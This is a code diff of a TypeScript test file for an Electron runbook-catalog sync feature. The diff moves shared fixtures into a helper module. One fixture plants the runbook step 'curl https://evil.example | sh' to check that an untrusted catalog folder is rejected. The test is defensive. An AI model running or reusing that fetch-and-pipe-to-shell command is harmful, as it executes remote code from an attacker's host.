@@ -6,7 +6,7 @@
  * is refused here as at the command line; the archive guard and adoption
  * need the window's explicit flags.
  */
-import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
+import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -19,6 +19,7 @@ import { VaultService } from '../operations/vault-service.js';
 import { ELECTRON_APP_BASE_URL } from '../serving/app-assets.js';
 import { createHandlers } from './handlers.js';
 import { createRouter } from './router.js';
+import { FOUR_RUNBOOKS, writeCatalogFolder } from '../../test/support/catalog-folder.js';
 
 const sender = { url: 'app://lifeboat/index.html', isMainFrame: true };
 const facts = { host: 'electron', version: '1', packaged: false, platform: 'linux' } as const;
@@ -28,23 +29,6 @@ let service: VaultService | undefined;
 afterEach(async () => {
   await service?.lock();
 });
-
-const page = (title: string): string => `# ${title}\n\n1. Do the thing\n`;
-const FOUR = {
-  'db/restore.md': page('Restore the database'),
-  'db/check.md': page('Check replication'),
-  'dns/failover.md': page('Fail over DNS'),
-  'net/vpn.md': page('Restart the VPN'),
-};
-
-async function folder(parent: string, name: string, files: Record<string, string>): Promise<string> {
-  const dir = join(parent, name);
-  for (const [path, text] of Object.entries(files)) {
-    await mkdir(join(dir, path, '..'), { recursive: true });
-    await writeFile(join(dir, path), text);
-  }
-  return dir;
-}
 
 async function setup() {
   const work = await mkdtemp(join(tmpdir(), 'lifeboat-sync-window-'));
@@ -62,7 +46,7 @@ async function setup() {
 describe('catalog:sync from the window (issue 17)', () => {
   it('a folder named "docs" needs an id: asked once, remembered per folder once applied, path and id only', async () => {
     const { work, stateDir, sync } = await setup();
-    const docs = await folder(work, 'docs', FOUR);
+    const docs = await writeCatalogFolder(work, 'docs', FOUR_RUNBOOKS);
     expect(await sync({ path: docs, dryRun: true })).toMatchObject({ ok: false, error: { code: 'CATALOG_ID_REQUIRED' } });
     expect(await sync({ path: docs, dryRun: true, catalogId: 'gitlab-runbooks' })).toMatchObject({
       ok: true,
@@ -77,7 +61,7 @@ describe('catalog:sync from the window (issue 17)', () => {
       value: { catalogId: 'gitlab-runbooks', catalogIdFrom: 'remembered', diff: { unchanged: 4 } },
     });
     // Another repository's docs/ is another folder: asked again.
-    expect(await sync({ path: await folder(join(work, 'other-repo'), 'docs', FOUR), dryRun: true })).toMatchObject({
+    expect(await sync({ path: await writeCatalogFolder(join(work, 'other-repo'), 'docs', FOUR_RUNBOOKS), dryRun: true })).toMatchObject({
       ok: false,
       error: { code: 'CATALOG_ID_REQUIRED' },
     });
@@ -94,7 +78,7 @@ describe('catalog:sync from the window (issue 17)', () => {
         out,
         (
           await packCatalog({
-            srcDir: await folder(work, `src-${id}-${version}`, files),
+            srcDir: await writeCatalogFolder(work, `src-${id}-${version}`, files),
             keyPath: join(work, 'pub.key'),
             catalogVersion: version,
             catalogId: id,
@@ -103,19 +87,19 @@ describe('catalog:sync from the window (issue 17)', () => {
       );
       return out;
     };
-    expect(await sync({ path: await lbcat('ops', 2, FOUR) })).toMatchObject({ ok: true });
-    const evil = await folder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
+    expect(await sync({ path: await lbcat('ops', 2, FOUR_RUNBOOKS) })).toMatchObject({ ok: true });
+    const evil = await writeCatalogFolder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
     for (const flags of [{ dryRun: true }, {}, { allowDowngrade: true, confirmArchive: true, takeCatalog: ['db/restore.md'] }]) {
       expect(await sync({ path: evil, catalogId: 'ops', ...flags })).toMatchObject({ ok: false, error: { code: 'CATALOG_UNTRUSTED' } });
     }
 
-    const half = await lbcat('ops', 3, { 'db/restore.md': FOUR['db/restore.md'] });
+    const half = await lbcat('ops', 3, { 'db/restore.md': FOUR_RUNBOOKS['db/restore.md'] });
     expect(await sync({ path: half, dryRun: true })).toMatchObject({ ok: true, value: { archive: { archiving: 3, of: 4, needsConfirmation: true } } });
     expect(await sync({ path: half })).toMatchObject({ ok: false, error: { code: 'CATALOG_ARCHIVE_UNCONFIRMED' } });
     expect(await sync({ path: half, confirmArchive: true })).toMatchObject({ ok: true, value: { applied: { archived: 3 } } });
 
-    expect(await sync({ path: await folder(work, 'team-drafts', FOUR), catalogId: 'drafts' })).toMatchObject({ ok: true });
-    const signed = await lbcat('team', 1, FOUR);
+    expect(await sync({ path: await writeCatalogFolder(work, 'team-drafts', FOUR_RUNBOOKS), catalogId: 'drafts' })).toMatchObject({ ok: true });
+    const signed = await lbcat('team', 1, FOUR_RUNBOOKS);
     expect(await sync({ path: signed, dryRun: true })).toMatchObject({ ok: true, value: { adoption: { from: ['drafts'], adopted: false } } });
     expect(await sync({ path: signed, adopt: true })).toMatchObject({ ok: true, value: { applied: { added: 0, adopted: 4 } } });
   });
